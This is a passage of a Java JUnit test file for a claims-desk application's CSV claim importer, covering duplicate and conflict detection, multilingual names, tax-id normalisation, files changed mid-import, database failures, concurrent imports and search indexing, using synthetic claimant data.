package org.claimdesk.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import org.claimdesk.delivery.HolderRegistry;
import org.claimdesk.delivery.StateRules;
import org.claimdesk.domain.AuditActions;
import org.claimdesk.domain.AuditEntry;
import org.claimdesk.domain.Claim;
import org.claimdesk.domain.ClaimDeskException;
import org.claimdesk.domain.ClaimStatus;
import org.claimdesk.store.ClaimQuery;
import org.claimdesk.store.Database;
import org.claimdesk.store.Json;
import org.claimdesk.testing.Sql;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.claimdesk.testing.TestDatabase;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;

/** {@link ClaimImport} on real SQLite files: outcomes, idempotence, file-level problems and awkward input. */
@ParameterizedClass
@EnumSource(TestDatabase.Engine.class)
class ClaimImportTest {
    @Parameter
    TestDatabase.Engine engine;

    static final Path SAMPLE = Path.of("resources", "samples", "claims.csv");
    static final String HEADER = "jurisdiction,statePropertyId,holderName,holderId,propertyType,claimType,claimantName,"
            + "taxId,amountCents,filedOn,claimantAddress";

    @TempDir
    Path dir;

    Database db;
    ClaimImport importer;
    Queries queries;

    @BeforeEach
    void open() {
        db = TestDatabase.open(engine, dir);
        importer = new ClaimImport(db, ClaimIntakeTest.CLOCK);
        queries = new Queries(db, ClaimIntakeTest.CLOCK);
    }

    @AfterEach
    void close() {
        db.close();
    }

    /** A valid row: property id 1000000 + n, claimant "Claimant n", a non-issuable tax id ending in n. */
    static String row(int n) {
        return String.format("CA,%d,Wells Fargo Bank NA,HLD-100200,AC01,OWNER,Claimant %d,100-00-%04d,%d,2026-03-02,",
                1_000_000 + n, n, n % 10_000, 1_000 + n);
    }

    /** {@code file} written with the header and valid rows 1 to {@code rows} ({@link #row}). */
    static Path validRows(Path file, int rows) throws IOException {
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        for (int i = 1; i <= rows; i++) {
            text.append(row(i)).append('\n');
        }
        return Files.writeString(file, text, StandardCharsets.UTF_8);
    }

    private Path write(String name, String text, Charset charset) throws IOException {
        Path file = dir.resolve(name);
        Files.write(file, text.getBytes(charset));
        return file;
    }

    private ClaimImport.Report run(Path file, boolean dryRun, boolean strict) {
        return importer.run(file, "s.patel", new ClaimImport.Options(dryRun, strict, null));
    }

    private List<AuditEntry> imports() {
        return queries.audit(null, null, AuditActions.CLAIMS_IMPORT, 0, 0);
    }

    @Test
    void theSampleImportsCleanlyWithOneHistoryRowPerClaimAndOneAuditEntry() throws Exception {
        Path sample = Files.copy(SAMPLE, dir.resolve("claims.csv"));
        ClaimImport.Report report = run(sample, false, false);

        assertThat(report.rejected()).isEmpty();
        assertThat(report.conflicts()).isEmpty();
        assertThat(report.rows()).isEqualTo(8);
        assertThat(report.imported()).isEqualTo(8);
        assertThat(report.errorsFile()).isNull();
        assertThat(ClaimImport.errorsFileOf(sample)).doesNotExist();
        String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(sample)));
        assertThat(report.sha256()).isEqualTo(sha);

        List<Claim> claims = queries.claims(ClaimQuery.all());
        assertThat(claims).hasSize(8).allSatisfy(c -> {
            assertThat(c.status()).isEqualTo(ClaimStatus.IDENTITY_PENDING);
            assertThat(c.claimNumber()).matches("UPC-\\d{4}-\\d{6}");
            assertThat(queries.history(c.claimId())).singleElement()
                    .satisfies(h -> assertThat(h.reason()).startsWith("imported from claims.csv, line "));
            // the sample passes the simulated state too: registered holders, amounts below the proof-of-address line
            assertThat(HolderRegistry.standard().registered(c.holderId(), c.jurisdiction())).as(c.holderId()).isTrue();
            assertThat(c.amountCents()).isLessThan(StateRules.addressEvidenceThresholdCents(c.jurisdiction()));
        });
        assertThat(claims).extracting(Claim::claimantName).contains("Nguyễn Văn An", "田中 健二", "Harbor Dental Group, LLC",
                "Rosa Hernández (heir of \"Big Tom\" Hernández estate)");
        assertThat(claims).extracting(Claim::claimantAddress).contains("1200 Capitol Mall, Apt 4, Sacramento, CA 95814");
        assertThat(imports()).singleElement().satisfies(a -> {
            assertThat(a.subjectId()).isEqualTo(sha);
            assertThat(a.details()).contains("\"file\":\"claims.csv\"").contains("\"imported\":8")
                    .contains("\"sha256\":\"" + sha + "\"");
        });
    }

    @Test
    void importingTheSameFileAgainChangesNothing() throws Exception {
        Path sample = Files.copy(SAMPLE, dir.resolve("claims.csv"));
        run(sample, false, false);
        long changes = Sql.scalar(db, "SELECT sum(version) + count(*) FROM claim", Long.class);
        int history = Sql.count(db, "claim_status_history");

        for (int i = 0; i < 2; i++) {
            ClaimImport.Report again = run(sample, false, false);
            assertThat(again.imported()).isZero();
            assertThat(again.alreadyPresent()).isEqualTo(8);
            assertThat(again.conflicts()).isEmpty();
        }
        assertThat(Sql.count(db, "claim")).isEqualTo(8);
        assertThat(Sql.scalar(db, "SELECT sum(version) + count(*) FROM claim", Long.class)).isEqualTo(changes);
        assertThat(Sql.count(db, "claim_status_history")).isEqualTo(history);
        assertThat(imports()).hasSize(3);
    }

    @Test
    void aRowThatDiffersFromTheClaimPresentIsAConflictAndTheClaimIsLeftAsItIs() throws Exception {
        Path first = write("first.csv", HEADER + "\n" + row(1) + "\n" + row(2) + "\n", StandardCharsets.UTF_8);
        run(first, false, false);
        Claim before = queries.claims(ClaimQuery.all().withSearch("Claimant 2")).get(0);

        Path changed = write("changed.csv", HEADER + "\n" + row(1) + "\n"
                + row(2).replace(",1002,", ",999999,").replace("100-00-0002", "100-00-0003") + "\n" + row(3) + "\n",
                StandardCharsets.UTF_8);
        ClaimImport.Report report = run(changed, false, false);

        assertThat(report.imported()).isEqualTo(1);
        assertThat(report.alreadyPresent()).isEqualTo(1);
        assertThat(report.conflicts()).singleElement().satisfies(c -> {
            assertThat(c.line()).isEqualTo(3);
            assertThat(c.claimNumber()).isEqualTo(before.claimNumber());
            assertThat(c.fields()).containsExactly("amountCents", "taxId");
        });
        assertThat(Json.write(report)).doesNotContain("100-00-0003").doesNotContain("100-00-0002");
        Claim after = queries.claim(Long.toString(before.claimId())).orElseThrow();
        assertThat(after).isEqualTo(before);
    }

    /**
     * A claimant written another way (capitals, spacing, accents) is the claimant of the claim present or of the
     * earlier row, in the same batch or an earlier one, dry run or not: a conflict on the name, not a second claim.
     */
    @Test
    void aClaimantWrittenAnotherWayIsAConflictNotASecondClaim() throws Exception {
        run(write("first.csv", HEADER + "\n" + row(1).replace("Claimant 1", "Zoë Lefèvre") + "\n",
                StandardCharsets.UTF_8), false, false);
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        text.append(row(1).replace("Claimant 1", "ZOE LEFEVRE")).append('\n');
        for (int i = 2; i <= ClaimImport.BATCH_ROWS + 1; i++) {
            text.append(row(i)).append('\n');
            if (i == 2) {
                text.append(row(2).replace("Claimant 2", "claimant  2")).append('\n');
            }
        }
        text.append(row(3).replace("Claimant 3", "CLAIMANT 3")).append('\n');
        Path file = write("respelled.csv", text.toString(), StandardCharsets.UTF_8);

        ClaimImport.Report dry = run(file, true, false);
        ClaimImport.Report real = run(file, false, false);

        for (ClaimImport.Report r : List.of(dry, real)) {
            assertThat(r.imported()).isEqualTo(ClaimImport.BATCH_ROWS);
            assertThat(r.alreadyPresent()).isZero();
            assertThat(r.conflicts()).extracting(ClaimImport.Conflict::line)
                    .containsExactly(2L, 4L, ClaimImport.BATCH_ROWS + 4L);
            assertThat(r.conflicts()).allSatisfy(c -> assertThat(c.fields()).containsExactly("claimantName"));
        }
        assertThat(Sql.count(db, "claim")).isEqualTo(ClaimImport.BATCH_ROWS + 1);
        assertThat(queries.claims(ClaimQuery.all().withSearch("Lefèvre"))).singleElement()
                .satisfies(c -> assertThat(c.claimantName()).isEqualTo("Zoë Lefèvre"));
    }

    /**
     * A business claim's tax id of nine bare digits is its EIN; importing the file again finds the claims present,
     * as it does a claim whose tax id was kept as an SSN of the same digits (one number, two writings).
     */
    @Test
    void nineBareDigitsOnABusinessClaimAreItsEinAndTheSameDigitsAreTheSameTaxId() throws Exception {
        String business = row(1).replace(",OWNER,", ",BUSINESS,").replace("100-00-0001", "941234567");
        String owner = row(2).replace("100-00-0002", "100000002");
        Path file = write("tax-ids.csv", HEADER + "\n" + business + "\n" + owner + "\n", StandardCharsets.UTF_8);
        assertThat(run(file, false, false).imported()).isEqualTo(2);
        assertThat(Sql.scalar(db, "SELECT tax_id FROM claim WHERE claimant_name = 'Claimant 1'", String.class))
                .isEqualTo("94-1234567");
        assertThat(Sql.scalar(db, "SELECT tax_id FROM claim WHERE claimant_name = 'Claimant 2'", String.class))
                .isEqualTo("100-00-0002");

        // kept as an SSN of the same digits (as the rule read bare digits before it knew the claim type)
        db.useTransaction(h -> h.execute("UPDATE claim SET tax_id = '941-23-4567' WHERE claimant_name = 'Claimant 1'"));
        for (boolean dryRun : new boolean[] {true, false}) {
            ClaimImport.Report again = run(file, dryRun, false);
            assertThat(again.imported()).isZero();
            assertThat(again.alreadyPresent()).isEqualTo(2);
            assertThat(again.conflicts()).isEmpty();
        }
        // other digits are another tax id
        Path other = write("other.csv", HEADER + "\n" + business.replace("941234567", "941234568") + "\n",
                StandardCharsets.UTF_8);
        assertThat(run(other, false, false).conflicts()).singleElement()
                .satisfies(c -> assertThat(c.fields()).containsExactly("taxId"));
    }

    /**
     * Two claims present whose names are one claimant in their match form (imported before names were so compared,
     * or entered as a repeat): a file with each row as it is finds each present, not a conflict with the older one.
     */
    @Test
    void rowsMatchingEachOfTwoClaimsThatShareAKeyAreAlreadyPresent() throws Exception {
        String upper = row(1).replace("Claimant 1", "MARIA GARCIA");
        String lower = row(1).replace("Claimant 1", "Maria Garcia");
        run(write("first.csv", HEADER + "\n" + upper + "\n", StandardCharsets.UTF_8), false, false);
        // the second, entered as a repeat of the first (as the import kept it when it compared names exactly)
        String first = queries.claims(ClaimQuery.all().withSearch("MARIA GARCIA")).get(0).claimNumber();
        java.util.Map<String, String> second = new java.util.LinkedHashMap<>();
        String[] columns = HEADER.split(",", -1);
        String[] values = lower.split(",", -1);
        for (int c = 0; c < columns.length; c++) {
            second.put(columns[c], values[c]);
        }
        new ClaimIntake(db, java.time.Clock.systemUTC()).create(second, null, "j.chen", "the holder reported it twice",
                first);
        Path again = write("again.csv", HEADER + "\n" + upper + "\n" + lower + "\n", StandardCharsets.UTF_8);

        for (boolean dryRun : new boolean[] {true, false}) {
            ClaimImport.Report r = run(again, dryRun, false);
            assertThat(r.imported()).isZero();
            assertThat(r.alreadyPresent()).as("dry run %s", dryRun).isEqualTo(2);
            assertThat(r.conflicts()).isEmpty();
        }
        assertThat(Sql.count(db, "claim")).isEqualTo(2);
    }

    /**
     * A Greek name whose final sigma the match form once kept (ς at a word's end, σ inside one: its spaces gone, a
     * second folding changed it), repeated in a later batch: a dry run remembers and finds it as the import does.
     */
    @Test
    void aGreekNameRepeatedInALaterBatchIsFoundByADryRun() throws Exception {
        String greek = row(1).replace("Claimant 1", "Νίκος Παπαδόπουλος");
        StringBuilder text = new StringBuilder(HEADER).append('\n').append(greek).append('\n');
        for (int i = 2; i <= ClaimImport.BATCH_ROWS + 1; i++) {
            text.append(row(i)).append('\n');
        }
        text.append(greek.replace("Νίκος Παπαδόπουλος", "ΝΙΚΟΣ ΠΑΠΑΔΟΠΟΥΛΟΣ")).append('\n');
        // rows a spreadsheet saved for rows it cleared: skipped as empty lines are
        text.append(",,,,,,,,,,\n , ,,,,,,,,,\n");
        Path file = write("greek.csv", text.toString(), StandardCharsets.UTF_8);

        for (boolean dryRun : new boolean[] {true, false}) {
            ClaimImport.Report r = run(file, dryRun, false);
            assertThat(r.imported()).as("dry run %s", dryRun).isEqualTo(ClaimImport.BATCH_ROWS + 1);
            assertThat(r.rejected()).isEmpty();
            assertThat(r.conflicts()).singleElement().satisfies(c -> {
                assertThat(c.line()).isEqualTo(ClaimImport.BATCH_ROWS + 3L);
                assertThat(c.fields()).containsExactly("claimantName");
            });
        }
    }

    /** Rows repeating rows of an earlier batch: a dry run counts them as the import then does. */
    @Test
    void aDryRunFindsRowsRepeatingEarlierBatchesAsTheImportDoes() throws Exception {
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        for (int i = 1; i <= ClaimImport.BATCH_ROWS; i++) {
            text.append(row(i)).append('\n');
        }
        text.append(row(1)).append('\n').append(row(2).replace(",1002,", ",5555,")).append('\n');
        Path file = write("repeats.csv", text.toString(), StandardCharsets.UTF_8);

        ClaimImport.Report dry = run(file, true, false);
        ClaimImport.Report real = run(file, false, false);

        for (ClaimImport.Report r : List.of(dry, real)) {
            assertThat(r.imported()).isEqualTo(ClaimImport.BATCH_ROWS);
            assertThat(r.alreadyPresent()).isEqualTo(1);
            assertThat(r.conflicts()).singleElement().satisfies(c -> {
                assertThat(c.line()).isEqualTo(ClaimImport.BATCH_ROWS + 3L);
                assertThat(c.fields()).containsExactly("amountCents");
            });
        }
        assertThat(dry.conflicts().get(0).claimNumber()).isEqualTo("(an earlier row of this file)");
        assertThat(Sql.count(db, "claim")).isEqualTo(ClaimImport.BATCH_ROWS);
    }

    /**
     * Two rows of one claim whose holder names differ but have one {@code hashCode} ("…Aa" and "…BB"): a dry run calls
     * the second a conflict on the holder's name, as the import does, not a repeat of the first.
     */
    @Test
    void aDryRunTellsApartValuesWithTheSameHashCode() throws Exception {
        assertThat("Holder Aa".hashCode()).isEqualTo("Holder BB".hashCode());
        String first = row(1).replace("Wells Fargo Bank NA", "Holder Aa");
        Path file = write("same-hash.csv", HEADER + "\n" + first + "\n" + first.replace("Holder Aa", "Holder BB") + "\n",
                StandardCharsets.UTF_8);

        ClaimImport.Report dry = run(file, true, false);
        ClaimImport.Report real = run(file, false, false);

        for (ClaimImport.Report r : List.of(dry, real)) {
            assertThat(r.imported()).isEqualTo(1);
            assertThat(r.alreadyPresent()).isZero();
            assertThat(r.conflicts()).singleElement().satisfies(c -> {
                assertThat(c.line()).isEqualTo(3L);
                assertThat(c.fields()).containsExactly("holderName");
            });
        }
    }

    /** Rows repeating rows of their own batch, next to them and far from them: counted as a later batch's are. */
    @Test
    void rowsRepeatingRowsOfTheirOwnBatchAreCountedAsInALaterBatch() throws Exception {
        int distinct = 1_500;
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        for (int i = 1; i <= distinct; i++) {
            text.append(row(i)).append('\n');
            if (i == 3) {
                text.append(row(3)).append('\n');
            }
        }
        text.append(row(1)).append('\n').append(row(2).replace(",1002,", ",5555,")).append('\n');
        Path file = write("own-batch.csv", text.toString(), StandardCharsets.UTF_8);
        long lastLine = distinct + 4L;

        ClaimImport.Report dry = run(file, true, false);
        ClaimImport.Report real = run(file, false, false);

        for (ClaimImport.Report r : List.of(dry, real)) {
            assertThat(r.imported()).isEqualTo(distinct);
            assertThat(r.alreadyPresent()).isEqualTo(2);
            assertThat(r.conflicts()).singleElement().satisfies(c -> {
                assertThat(c.line()).isEqualTo(lastLine);
                assertThat(c.fields()).containsExactly("amountCents");
            });
        }
        Claim second = queries.claims(ClaimQuery.all().withSearch("Claimant 2")).stream()
                .filter(c -> c.claimantName().equals("Claimant 2")).findFirst().orElseThrow();
        assertThat(real.conflicts().get(0).claimNumber()).isEqualTo(second.claimNumber());
        assertThat(second.amountCents()).isEqualTo(1_002);
        assertThat(Sql.count(db, "claim")).isEqualTo(distinct);
        assertThat(Sql.count(db, "claim_status_history")).isEqualTo(distinct);
    }

    /**
     * A file changed between the check and the end of the import: the batches committed stay, the one being written
     * is rolled back, the message says how many were imported, and the audit entry says the import stopped after them.
     */
    @Test
    void aFileChangedWhileItIsImportedKeepsTheBatchesCommittedAndRollsBackTheRest() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 2 + 500;
        Path file = manyRows("changing.csv", rows);
        ClaimImport.Monitor changeTheLastRow = changingAt(ClaimImport.Phase.IMPORTING, file, out -> {
            // the last row's amount, 1000 + rows, becomes 9000 + rows: same length, other bytes
            out.seek(Files.size(file) - ",2026-03-02,\n".length() - Integer.toString(1_000 + rows).length());
            out.write('9');
        });

        assertThatThrownBy(() -> importer.run(file, "s.patel", ClaimImport.Options.defaults(), changeTheLastRow))
                .isInstanceOf(ClaimDeskException.class)
                .hasMessage("changing.csv changed while it was imported; " + ClaimImport.BATCH_ROWS * 2
                        + " claim(s) were imported before that: import the file again to complete it");
        assertThat(Sql.count(db, "claim")).isEqualTo(ClaimImport.BATCH_ROWS * 2);
        assertThat(Sql.count(db, "claim_status_history")).isEqualTo(ClaimImport.BATCH_ROWS * 2);
        assertThat(imports()).singleElement().satisfies(a -> {
            assertThat(a.actor()).isEqualTo("s.patel");
            assertThat(a.reason()).isEqualTo("import of changing.csv, stopped after " + ClaimImport.BATCH_ROWS * 2
                    + " claim(s)");
            assertThat(Json.readObject(a.details())).containsEntry("imported", ClaimImport.BATCH_ROWS * 2)
                    .containsEntry("stopped", "changing.csv changed while it was imported; " + ClaimImport.BATCH_ROWS * 2
                            + " claim(s) were imported before that: import the file again to complete it");
        });
        assertThat(queries.claims(ClaimQuery.all().withSearch("Claimant " + (ClaimImport.BATCH_ROWS * 2 + 1))))
                .isEmpty();

        ClaimImport.Report again = run(file, false, false);
        assertThat(again.imported()).isEqualTo(500);
        assertThat(again.alreadyPresent()).isEqualTo(ClaimImport.BATCH_ROWS * 2);
        assertThat(Sql.count(db, "claim")).isEqualTo(rows);
    }

    /**
     * A Windows-1252 file re-saved as UTF-8 while it is imported (what staff do on seeing the wrong encoding): the
     * import says the file changed and how many claims are in, not that it "was not imported" as UTF-8 text.
     */
    @Test
    void aFileResavedAsUtf8WhileItIsImportedSaysItChanged() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 2 + 500;
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        for (int i = 1; i <= rows; i++) {
            text.append(i == rows ? row(i).replace("Claimant " + i, "José " + i) : row(i)).append('\n');
        }
        Charset windows = Charset.forName("windows-1252");
        Path file = write("resaved.csv", text.toString(), windows);
        byte[] bytes = Files.readAllBytes(file);
        int accent = 0;
        while ((bytes[accent] & 0xFF) != 0xE9) {
            accent++;
        }
        long at = accent - 1;
        // "sé" (two bytes in Windows-1252) becomes "é" in UTF-8 (two bytes): the file the same length, all UTF-8 now
        ClaimImport.Monitor resave = changingAt(ClaimImport.Phase.IMPORTING, file, out -> {
            out.seek(at);
            out.write(new byte[] {(byte) 0xC3, (byte) 0xA9});
        });

        assertThatThrownBy(() -> importer.run(file, "s.patel", new ClaimImport.Options(false, false, windows), resave))
                .isNotInstanceOf(ClaimImport.Utf8Text.class)
                .hasMessage("resaved.csv changed while it was imported; " + ClaimImport.BATCH_ROWS * 2
                        + " claim(s) were imported before that: import the file again to complete it");
        assertThat(Sql.count(db, "claim")).isEqualTo(ClaimImport.BATCH_ROWS * 2);
    }

    /**
     * A database failure after some batches were committed (the disk full, a lock not granted) says how many claims
     * are in, as a changed file does, and the same import completes the file afterwards.
     */
    @Test
    void aDatabaseFailureAfterSomeBatchesSaysHowManyClaimsAreIn() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 3 + 500;
        Path file = manyRows("office.csv", rows);
        ClaimImport.Monitor failAfterTwoBatches = refusingAfterTwoBatches("claims_full", "claim",
                "database or disk is full");

        assertStopsAfter(file, failAfterTwoBatches, "database or disk is full", ClaimImport.BATCH_ROWS * 2);
        assertThat(imports()).singleElement().satisfies(a -> assertThat(a.reason())
                .isEqualTo("import of office.csv, stopped after " + ClaimImport.BATCH_ROWS * 2 + " claim(s)"));

        org.claimdesk.testing.Triggers.drop(db, "claims_full", "claim");
        ClaimImport.Report again = run(file, false, false);
        assertThat(again.imported()).isEqualTo(ClaimImport.BATCH_ROWS + 500);
        assertThat(again.alreadyPresent()).isEqualTo(ClaimImport.BATCH_ROWS * 2);
    }

    /**
     * A refusal the store has no sentence for (here the audit trail refusing the import's entry, with the rows of the
     * last batch) says how many claims are in as well.
     */
    @Test
    void aRefusalTheStoreHasNoSentenceForStillSaysHowManyClaimsAreIn() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 3 + 500;
        Path file = manyRows("office.csv", rows);
        ClaimImport.Monitor refuseTheAuditEntry = refusingAfterTwoBatches("audit_refused", "audit_log",
                "the audit trail refused the entry");

        assertStopsAfter(file, refuseTheAuditEntry, "the audit trail refused the entry", ClaimImport.BATCH_ROWS * 3);
    }

    /** The import of {@code file} stops on the database's refusal {@code why} with {@code imported} claims in. */
    private void assertStopsAfter(Path file, ClaimImport.Monitor monitor, String why, int imported) {
        assertThatThrownBy(() -> importer.run(file, "s.patel", ClaimImport.Options.defaults(), monitor))
                .isInstanceOf(org.claimdesk.store.DatabaseException.class)
                .hasMessageContaining(why)
                .hasMessageEndingWith("; " + imported + " claim(s) were imported before that:"
                        + " import the file again to complete it");
        assertThat(Sql.count(db, "claim")).isEqualTo(imported);
    }

    /** A monitor that, once two batches are in, has the database refuse inserts into {@code table} with {@code why}. */
    private ClaimImport.Monitor refusingAfterTwoBatches(String trigger, String table, String why) {
        return new ClaimImport.Monitor() {
            boolean refusing;

            @Override
            public void progress(ClaimImport.Progress progress) {
                if (progress.imported() >= ClaimImport.BATCH_ROWS * 2 && !refusing) {
                    refusing = true;
                    org.claimdesk.testing.Triggers.failing(db, trigger, table, "INSERT", why);
                }
            }
        };
    }

    /**
     * Two workstations importing the same file at the same moment (each its own connections, as two consoles): every
     * claim is in once; what one imported the other counts as already present.
     */
    @Test
    void twoWorkstationsImportingOneFileAtOnceTakeEachClaimOnce() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 3;
        Path file = validRows(dir.resolve("office.csv"), rows);
        try (Database other = Database.open(db.location())) {
            java.util.concurrent.CyclicBarrier start = new java.util.concurrent.CyclicBarrier(2);
            // each waits for the other once its first batch is in (between transactions): the later batches overlap
            java.util.concurrent.CyclicBarrier midway = new java.util.concurrent.CyclicBarrier(2);
            java.util.concurrent.ExecutorService two = java.util.concurrent.Executors.newFixedThreadPool(2);
            try {
                List<java.util.concurrent.Future<ClaimImport.Report>> reports = new ArrayList<>();
                for (Database workstation : List.of(db, other)) {
                    ClaimImport.Monitor meetMidway = new ClaimImport.Monitor() {
                        boolean met;

                        @Override
                        public void progress(ClaimImport.Progress progress) {
                            if (progress.phase() == ClaimImport.Phase.IMPORTING && progress.rows() >= ClaimImport.BATCH_ROWS
                                    && !met) {
                                met = true;
                                try {
                                    midway.await(30, java.util.concurrent.TimeUnit.SECONDS);
                                } catch (Exception e) {
                                    throw new IllegalStateException(e);
                                }
                            }
                        }
                    };
                    reports.add(two.submit(() -> {
                        start.await();
                        return new ClaimImport(workstation, ClaimIntakeTest.CLOCK).run(file, "s.patel",
                                ClaimImport.Options.defaults(), meetMidway);
                    }));
                }
                ClaimImport.Report first = reports.get(0).get(60, java.util.concurrent.TimeUnit.SECONDS);
                ClaimImport.Report second = reports.get(1).get(60, java.util.concurrent.TimeUnit.SECONDS);

                assertThat(Sql.count(db, "claim")).isEqualTo(rows);
                assertThat(first.imported() + second.imported()).isEqualTo(rows);
                assertThat(first.imported() + first.alreadyPresent()).isEqualTo(rows);
                assertThat(second.imported() + second.alreadyPresent()).isEqualTo(rows);
                assertThat(Sql.scalar(db, "SELECT count(DISTINCT claim_number) FROM claim", Long.class))
                        .isEqualTo(rows);
            } finally {
                two.shutdownNow();
            }
        }
    }

    /** An import that stops after it moved an earlier errors file aside says where that file is. */
    @Test
    void anImportThatStopsSaysWhereTheEarlierErrorsFileWasKept() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 2 + 500;
        Path file = manyRows("changing.csv", rows);
        Path earlier = Files.writeString(ClaimImport.errorsFileOf(file), HEADER + ",error\n");
        ClaimImport.Monitor changeTheLastRow = changingAt(ClaimImport.Phase.IMPORTING, file, out -> {
            out.seek(Files.size(file) - ",2026-03-02,\n".length() - Integer.toString(1_000 + rows).length());
            out.write('9');
        });

        assertThatThrownBy(() -> importer.run(file, "s.patel", ClaimImport.Options.defaults(), changeTheLastRow))
                .isInstanceOf(ClaimDeskException.class)
                .hasMessageStartingWith("changing.csv changed while it was imported; ")
                .hasMessageContaining("; the errors file of an earlier import of this file was kept as "
                        + dir.resolve("changing.csv.errors."));
        assertThat(earlier).doesNotExist();
        assertThat(imports()).singleElement().satisfies(a -> assertThat(Json.readObject(a.details()))
                .hasEntrySatisfying("keptErrorsFile", kept -> assertThat(dir.resolve((String) kept))
                        .hasContent(HEADER + ",error")));
    }

    /**
     * A header changed between the check and the import (two columns swapped, the file's length the same) would put
     * every row's values in other fields: nothing is written.
     */
    @Test
    void aFileWhoseHeaderChangedAfterTheCheckWritesNothing() throws Exception {
        Path file = manyRows("swapped.csv", ClaimImport.BATCH_ROWS * 2 + 10);
        ClaimImport.Monitor swapTwoColumns = changingAt(ClaimImport.Phase.CHECKING, file, out -> out.write(
                HEADER.replace("holderName", "@").replace("claimantName", "holderName").replace("@", "claimantName")
                        .getBytes(StandardCharsets.UTF_8)));

        assertThatThrownBy(() -> importer.run(file, "s.patel", ClaimImport.Options.defaults(), swapTwoColumns))
                .isInstanceOf(ClaimDeskException.class)
                .hasMessage("swapped.csv changed while it was imported; 0 claim(s) were imported before that:"
                        + " import the file again to complete it");
        assertThat(Sql.count(db, "claim")).isZero();
        assertThat(imports()).isEmpty();
    }

    @Test
    void aReportListsAtMostItsLimitOfConflictsAndCountsTheOthers() throws Exception {
        int rows = ClaimImport.MAX_LISTED + 3;
        run(manyRows("first.csv", rows), false, false);
        StringBuilder changed = new StringBuilder(HEADER).append('\n');
        for (int i = 1; i <= rows; i++) {
            changed.append(row(i).replace(",2026-03-02,", ",2026-03-01,")).append('\n');
        }

        ClaimImport.Report report = run(write("changed.csv", changed.toString(), StandardCharsets.UTF_8), false, false);

        assertThat(report.conflicts()).hasSize(ClaimImport.MAX_LISTED)
                .allSatisfy(c -> assertThat(c.fields()).containsExactly("filedOn"));
        assertThat(report.conflictsNotListed()).isEqualTo(3);
        assertThat(report.conflictCount()).isEqualTo(rows);
        assertThat(report.clean()).isFalse();
        assertThat(report.imported()).isZero();
        List<Long> audited = new ArrayList<>();
        for (AuditEntry e : imports()) {
            audited.add(Json.mapper().readTree(e.details()).path("conflicts").asLong());
        }
        assertThat(audited).containsExactlyInAnyOrder(0L, (long) rows);
    }

    /**
     * Claims imported (in batches the search index takes whole) are found by the console's search as demo claims
     * (indexed by a rebuild) and claims created one by one (indexed by the trigger) are: by a piece of the claim
     * number, the claimant in any script and the property id; the index agrees with the claims table.
     */
    @Test
    void importedClaimsAreFoundByTheSearchLikeDemoClaimsAndClaimsCreatedLater() throws Exception {
        new DemoData(db, ClaimIntakeTest.CLOCK, org.claimdesk.domain.Deadlines.statutory()).generate(300, 7, n -> { });
        run(write("scripts.csv", HEADER + "\n"
                + row(1).replace("Claimant 1", "田中 健二") + "\n"
                + row(2).replace("Claimant 2", "Ольга Смирнова") + "\n"
                + row(3).replace("Claimant 3", "\"Zoë Ångström, heir of Lars\"") + "\n", StandardCharsets.UTF_8),
                false, false);
        run(manyRows("later.csv", ClaimImport.BATCH_ROWS + 10), false, false);
        db.useTransaction(h -> new org.claimdesk.store.ClaimStore().insert(h, new org.claimdesk.store.NewClaim(
                "UPC-2026-900001", "CA", "7654321", "Holder", null, org.claimdesk.domain.PropertyType.AC01,
                org.claimdesk.domain.ClaimType.OWNER, "Trigger Made", "123-00-4567", 100, ClaimStatus.IDENTITY_PENDING,
                null, java.time.LocalDate.of(2026, 3, 1), null), java.time.Instant.EPOCH));

        Claim demo = queries.claim(1L).orElseThrow();
        Claim tanaka = only("田中 健二");
        List<Claim> found = new ArrayList<>();
        for (Claim claim : List.of(demo, tanaka, only("Ольга"), only("Zoë Ångström"),
                only("Claimant " + (ClaimImport.BATCH_ROWS + 3)),
                only("Trigger Made"))) {
            found.add(claim);
            assertThat(queries.claims(ClaimQuery.all().withSearch(claim.claimNumber().substring(4))))
                    .extracting(Claim::claimId).contains(claim.claimId());
            assertThat(queries.claims(ClaimQuery.all().withSearch(claim.statePropertyId().substring(1))))
                    .extracting(Claim::claimId).contains(claim.claimId());
            String name = claim.claimantName();
            assertThat(queries.claims(ClaimQuery.all().withSearch(name.substring(0, Math.min(name.length(), 6)))))
                    .extracting(Claim::claimId).contains(claim.claimId());
        }
        assertThat(found).extracting(Claim::claimantName).contains("Ольга Смирнова", "Zoë Ångström, heir of Lars");
        for (String text : List.of("Claimant 50", "田中", "Smirnova", "Ольга", "Zoë Å", "UPC-2026-00", "100000")) {
            int expected = Sql.scalar(db, "SELECT count(*) FROM claim WHERE claim_number LIKE '%" + text + "%'"
                    + " OR claimant_name LIKE '%" + text + "%' OR state_property_id LIKE '%" + text + "%'"
                    + " OR state_case_id LIKE '%" + text + "%'", Integer.class);
            assertThat(queries.countClaims(ClaimQuery.all().withSearch(text))).as(text).isEqualTo(expected);
        }
        if (!db.onServer()) {
            // SQLite's trigram index agrees with the claims it indexes (PostgreSQL's indexes are kept by the server)
            db.useTransaction(h -> h.execute("INSERT INTO claim_search (claim_search) VALUES ('integrity-check')"));
